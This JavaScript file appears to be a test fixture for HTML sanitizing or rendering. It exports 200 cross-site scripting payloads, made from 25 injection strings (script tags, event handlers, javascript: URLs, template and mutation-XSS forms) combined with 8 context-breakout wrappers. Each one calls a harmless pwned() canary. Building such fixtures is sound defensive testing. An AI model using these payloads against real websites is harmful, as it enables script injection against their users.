// SPDX-License-Identifier: Apache-2.0
// Two hundred strings that would call pwned() if any part of the page took them for markup or script.

const scripts = [
  "<script>pwned()</script>",
  "<img src=x onerror=pwned()>",
  "<svg onload=pwned()>",
  "<svg><script>pwned()</script></svg>",
  "<iframe srcdoc='<script>parent.pwned()</script>'></iframe>",
  "<iframe src=javascript:parent.pwned()></iframe>",
  "<body onload=pwned()>",
  "<details open ontoggle=pwned()>x</details>",
  "<input autofocus onfocus=pwned()>",
  "<video><source onerror=pwned()></video>",
  "<math><mtext><table><mglyph><style><img src=x onerror=pwned()>",
  "<object data=javascript:pwned()></object>",
  "<embed src=javascript:pwned()>",
  "<a href=javascript:pwned() autofocus>x</a>",
  "<form action=javascript:pwned()><button autofocus>x</button></form>",
  "<style>@import 'javascript:pwned()';</style>",
  "<link rel=stylesheet href=javascript:pwned()>",
  "<meta http-equiv=refresh content='0;url=javascript:pwned()'>",
  "<template shadowrootmode=open><img src=x onerror=pwned()></template>",
  "<marquee onstart=pwned()>x</marquee>",
  "${pwned()}",
  "{{constructor.constructor('pwned()')()}}",
  "javascript:pwned()",
  "&lt;img src=x onerror=pwned()&gt;",
  "\u003cimg src=x onerror=pwned()\u003e",
];

/** Ways out of where the string may stand. */
const frames = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `</mark></span></div>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}`,
  (payload) => `</textarea></style></title></script>${payload}`,
  (payload) => `</pre>\u2028${payload}\0`,
];

export const payloads = frames.flatMap((frame) => scripts.map(frame));
